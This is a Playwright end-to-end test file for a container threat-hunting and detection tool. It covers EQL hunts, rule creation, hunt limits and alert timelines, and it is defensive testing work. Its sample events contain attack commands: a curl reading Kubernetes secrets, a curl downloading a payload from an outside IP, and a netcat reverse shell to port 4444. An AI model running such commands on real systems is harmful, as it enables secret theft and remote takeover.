import { expect, type Page, test } from "@playwright/test";
import { signInAsAdmin } from "./helpers";
import { ensureBuiltinRules } from "./seed-rules";

/** The sample's web-shell container (container.id) and the curl it runs against the Kubernetes API. */
const ATTACKED_CONTAINER_ID = "9f3b".repeat(16);
const CURL_COMMAND = "curl -sk --max-time 5 https://kubernetes.default.svc/api/v1/namespaces/shop/secrets";
const NETWORK_TOOL_RULE = "1a289854-5b78-49fe-9440-8a8096b1ab50";
/** playwright.config.ts starts the server with KEELWATCH_HUNT_MAX_EVENTS at this. */
const HUNT_MAX_EVENTS = 1_000;

/** Loads the sample incident unless it is there; says whether this test loaded it (and so removes it). */
async function loadSample(page: Page, origin: string): Promise<boolean> {
  const response = await page.request.post("/api/samples/load", { data: { format: "ecs" }, headers: { origin } });
  expect(response.status()).toBe(200);
  return !((await response.json()) as { alreadyLoaded: boolean }).alreadyLoaded;
}

async function removeSample(page: Page, origin: string): Promise<void> {
  expect((await page.request.delete("/api/samples", { headers: { origin } })).status()).toBe(200);
}

async function postEvents(page: Page, origin: string, events: object[]) {
  const response = await page.request.post("/api/events?filename=hunt-e2e.ndjson", {
    headers: { origin, "content-type": "application/x-ndjson" },
    data: `${events.map((event) => JSON.stringify(event)).join("\n")}\n`,
  });
  expect(response.status()).toBe(200);
  return (await response.json()) as { alerts: { byRule: Record<string, number> } };
}

test("a hunt for curl finds the sample's download and becomes a rule that fires on the next upload", async ({
  page,
}) => {
  test.setTimeout(180_000);
  await signInAsAdmin(page);
  const origin = new URL(page.url()).origin;
  await ensureBuiltinRules(page.request, origin);
  const loadedHere = await loadSample(page, origin);
  let ruleId: string | null = null;
  try {
    await page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Hunt" }).click();
    await expect(page.getByRole("heading", { level: 1, name: "Hunt" })).toBeVisible();
    await page.getByLabel("EQL query").fill('process where process.name == "curl"');
    await expect(page.getByText("The query compiles.")).toBeVisible();
    await page.getByLabel("Time range").selectOption("24h");
    await page.getByLabel("Container", { exact: true }).fill(ATTACKED_CONTAINER_ID);
    await page.getByRole("button", { name: "Hunt", exact: true }).click();

    const results = page.getByRole("region", { name: "Hunt results" });
    // the curl's exec and its end
    await expect(results.getByTestId("hunt-summary")).toContainText("2 results", { timeout: 20_000 });
    const row = results.getByTestId("event-row").filter({ hasText: CURL_COMMAND }).first();
    await expect(row).toBeVisible();
    await row.click();
    await expect(results.getByTestId("field-detail")).toContainText("process.entry_leader.entity_id");
    await expect(results.getByRole("alert")).toHaveCount(0);

    await results.getByRole("button", { name: "Create rule from this query" }).click();
    const ruleName = `Curl in a container (hunt ${Date.now().toString(36)})`;
    await page.getByLabel("Rule name").fill(ruleName);
    await page.getByRole("button", { name: "Create rule and edit" }).click();
    await expect(page).toHaveURL(/\/rules\/[^/?]+\?edit=1$/);
    await expect(page.getByRole("heading", { level: 1, name: ruleName })).toBeVisible();
    await expect(page.getByLabel("EQL query")).toHaveValue('process where process.name == "curl"');
    ruleId = decodeURIComponent(new URL(page.url()).pathname.split("/").at(-1) as string);

    // The next upload: a curl in another container raises an alert of the new rule.
    const report = await postEvents(page, origin, [
      {
        "@timestamp": new Date().toISOString(),
        event: { category: ["process"], type: ["start"], action: "exec", kind: "event" },
        container: { id: "hunt-e2e-container", name: "api" },
        host: { name: "hunt-e2e-node" },
        process: {
          name: "curl",
          executable: "/usr/bin/curl",
          entity_id: `hunt-e2e-${Date.now()}`,
          command_line: "curl -o /tmp/payload http://203.0.113.9/p",
          args: ["curl", "-o", "/tmp/payload", "http://203.0.113.9/p"],
        },
      },
    ]);
    expect(report.alerts.byRule[ruleName]).toBe(1);
  } finally {
    if (ruleId) {
      const removed = await page.request.delete(`/api/rules/${encodeURIComponent(ruleId)}?force=true`, {
        headers: { origin },
      });
      expect(removed.status()).toBe(200);
    }
    if (loadedHere) await removeSample(page, origin);
  }
});

test("a hunt over a huge range stops at its limit with a clear message and the results found so far", async ({
  page,
}) => {
  test.setTimeout(180_000);
  await signInAsAdmin(page);
  const origin = new URL(page.url()).origin;
  // More events than the limit, spread over most of a year.
  const now = Date.now();
  const marker = `hunt-limit-${now.toString(36)}`;
  const events = Array.from({ length: HUNT_MAX_EVENTS + 200 }, (_, index) => ({
    "@timestamp": new Date(now - 300 * 86_400_000 + index * 21_600_000).toISOString(),
    event: { category: ["process"], type: ["start"], action: "exec", kind: "event" },
    container: { id: marker },
    host: { name: "hunt-e2e-node" },
    process: { name: "ls", executable: "/bin/ls", entity_id: `${marker}-${index}`, args: ["ls", String(index)] },
  }));
  await postEvents(page, origin, events);

  await page.goto("/hunt");
  await page.getByLabel("EQL query").fill('process where process.name == "ls"');
  await page.getByLabel("Time range").selectOption("365d");
  await page.getByRole("button", { name: "Hunt", exact: true }).click();
  const results = page.getByRole("region", { name: "Hunt results" });
  await expect(results.getByTestId("hunt-stopped")).toContainText(
    `The hunt stopped after scanning ${HUNT_MAX_EVENTS.toLocaleString("en-US")} events`,
    { timeout: 20_000 },
  );
  await expect(results.getByTestId("hunt-stopped")).toContainText("narrow the time range or scope");
  await expect(results.getByTestId("hunt-summary")).toContainText(
    `${HUNT_MAX_EVENTS.toLocaleString("en-US")} events scanned`,
  );
  // the results found so far are shown
  await expect(results.getByTestId("event-row").first()).toBeVisible();

  // Narrowed to the last 30 days of that container, the hunt reads every event it needs and completes.
  await page.getByLabel("Container", { exact: true }).fill(marker);
  await page.getByLabel("Time range").selectOption("30d");
  await page.getByRole("button", { name: "Hunt", exact: true }).click();
  await expect(results.getByTestId("hunt-summary")).toContainText(/^1\d\d results · 1\d\d events scanned/, {
    timeout: 20_000,
  });
  await expect(results.getByTestId("hunt-stopped")).toHaveCount(0);
});

test("the timeline shows the container's events around an alert", async ({ page }) => {
  test.setTimeout(180_000);
  await signInAsAdmin(page);
  const origin = new URL(page.url()).origin;
  await ensureBuiltinRules(page.request, origin);
  const loadedHere = await loadSample(page, origin);
  try {
    const listed = await page.request.get(`/api/alerts?rule=${NETWORK_TOOL_RULE}&q=4444&limit=100`);
    const { items } = (await listed.json()) as { items: { id: string; containerName: string | null }[] };
    const alert = items.find((item) => item.containerName === "php-fpm");
    expect(alert, "the sample's reverse shell alert").toBeTruthy();
    await page.goto(`/alerts/${alert?.id}`);

    const timeline = page.getByRole("region", { name: "Timeline" });
    await expect(timeline.getByTestId("timeline-summary")).toContainText(`of container ${ATTACKED_CONTAINER_ID}`, {
      timeout: 20_000,
    });
    const rows = timeline.getByTestId("event-row");
    await expect(rows.first()).toBeVisible();
    const shown = await rows.count();
    expect(shown).toBeGreaterThan(3);
    await expect(timeline.getByTestId("histogram-marker")).toBeVisible();
    // the alert's own event is among them, marked
    await expect(rows.filter({ hasText: "/tmp/nc 203.0.113.45 4444" }).first()).toBeVisible();

    // the web shell's files written around the alert
    await timeline.getByRole("combobox", { name: "Category" }).selectOption("file");
    const categories = () =>
      timeline
        .getByTestId("event-row")
        .evaluateAll((found) => [...new Set(found.map((row) => row.querySelectorAll("td")[1]?.textContent ?? ""))]);
    await expect.poll(categories).toEqual(["file"]);
  } finally {
    if (loadedHere) await removeSample(page, origin);
  }
});
